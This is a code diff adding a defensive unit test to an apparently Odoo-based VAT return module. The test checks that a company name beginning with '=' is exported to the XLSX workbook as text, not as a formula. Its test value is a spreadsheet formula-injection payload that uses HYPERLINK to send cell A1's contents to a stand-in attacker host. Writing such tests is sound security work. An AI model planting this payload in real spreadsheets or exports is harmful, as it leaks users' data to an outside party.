@@ -4,6 +4,8 @@
 through its parent company."""
 
 import base64
+import io
+import zipfile
 from datetime import date
 
 from odoo import Command
@@ -171,3 +173,15 @@ class TestVatReturnStateAttacks(VatReturnCommon):
         vat_return = self._vat_return()
         vat_return.action_check()
         self.assertIn(vat_return.state, ("draft", "checked"))
+
+    def test_xlsx_text_never_becomes_a_formula(self):
+        """A name starting with '=' stays text in the workbook (no formula injection)."""
+        self.company.sudo().name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+        vat_return = self._vat_return()
+        vat_return.action_compute()
+        content = vat_return.with_user(self.manager)._xlsx_content()
+        with zipfile.ZipFile(io.BytesIO(content)) as book:
+            sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
+            xml = b"".join(book.read(n) for n in sheets)
+        self.assertNotIn(b"<f>", xml)
+        self.assertNotIn(b"HYPERLINK(", xml)
